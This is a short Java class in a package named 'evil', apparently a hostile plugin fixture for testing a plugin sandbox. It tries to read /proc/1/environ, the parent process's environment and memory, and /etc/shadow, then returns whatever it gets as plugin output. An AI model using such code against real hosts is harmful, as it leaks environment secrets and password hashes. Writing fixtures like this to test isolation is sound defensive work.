package evil;

import java.io.FileInputStream;
import java.io.IOException;
import java.util.List;
import org.takeup.plugin.api.FormField;
import org.takeup.plugin.api.plan.PlanContext;

/** Answers with what it can read of the process that started it. */
public class ReadsTheHost extends Evil {
    @Override
    protected List<FormField> evil(PlanContext context) throws Exception {
        String said = "read";
        long parent = ProcessHandle.current().parent().map(ProcessHandle::pid).orElse(1L);
        for (String file : List.of("/proc/1/environ", "/proc/" + parent + "/environ", "/proc/" + parent + "/mem", "/etc/shadow")) {
            try (var in = new FileInputStream(file)) {
                said += " " + new String(in.readNBytes(2_000));
            } catch (IOException e) {
                said += " nothing";
            }
        }
        return saying(said);
    }
}
